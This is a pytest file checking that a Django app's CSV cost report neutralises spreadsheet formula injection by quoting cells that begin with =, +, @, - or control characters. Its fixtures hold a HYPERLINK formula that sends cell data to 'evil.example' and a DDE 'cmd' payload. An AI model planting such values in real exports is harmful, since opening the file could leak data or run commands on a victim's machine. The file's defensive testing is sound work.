"""Catalog text never reaches a customer's spreadsheet as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse

from advisor.decisions import evaluation
from advisor.reference.models import Catalog
from advisor.reference.services.catalog import catalog_clone, catalog_publish
from advisor.reporting.csv import csv_cell
from advisor.services import reports
from advisor.starters import BY_SLUG as STARTERS
from tests.factories import AssessmentFactory, MembershipFactory, ReportFactory

pytestmark = pytest.mark.django_db

STARTER = "llm-fine-tuning-startup"
LINK = '=HYPERLINK("https://evil.example/?d="&A1,"Open the price sheet")'


def test_formula_text_from_the_catalog_is_quoted_in_the_cost_csv(client: Client) -> None:
    chosen = evaluation.evaluate(STARTERS[STARTER].document(), language="en")["cost"]
    accelerator_id = chosen["by_workload"][0]["accelerator_id"]
    draft = catalog_clone(catalog=Catalog.objects.get(status="published"), user=None)
    draft.prices.filter(accelerator__key=accelerator_id).update(source=LINK, provider="@SUM(1)")
    draft.accelerators.filter(key=accelerator_id).update(name="+cmd|' /C calc'!A0")
    catalog_publish(catalog=draft, user=None)

    membership = MembershipFactory()
    client.force_login(membership.user)
    obj = AssessmentFactory(
        membership=membership, title="Spreadsheet", submitted=True, starter=STARTER
    )
    report = ReportFactory(assessment=obj, queued=True)
    reports.report_generate(report_id=report.pk)
    response = client.get(reverse("advisor:report_csv", kwargs={"pk": obj.pk, "number": 1}))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    header, body = rows[0], rows[1:]
    ours = [r for r in body if r[header.index("Accelerator")].endswith("calc'!A0")]
    assert ours
    for row in ours:
        assert row[header.index("Accelerator")] == "'+cmd|' /C calc'!A0"
        assert row[header.index("Price source")] == "'" + LINK
        assert float(row[header.index("Devices")]) >= 1
    # No cell anywhere starts a formula.
    assert not [c for r in rows for c in r if c[:1] in {"=", "+", "@", "\t", "\r"}]
    assert not [c for r in rows for c in r if c.startswith("-") and not _number(c)]


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (-12.5, -12.5),
        (0, 0),
        ("-12.5", "-12.5"),
        ("+3", "+3"),
        ("-1+1", "'-1+1"),
        ("=1+1", "'=1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("AWS", "AWS"),
        ("", ""),
    ],
)
def test_csv_cells_quote_formulas_and_keep_numbers(value: object, written: object) -> None:
    assert csv_cell(value) == written
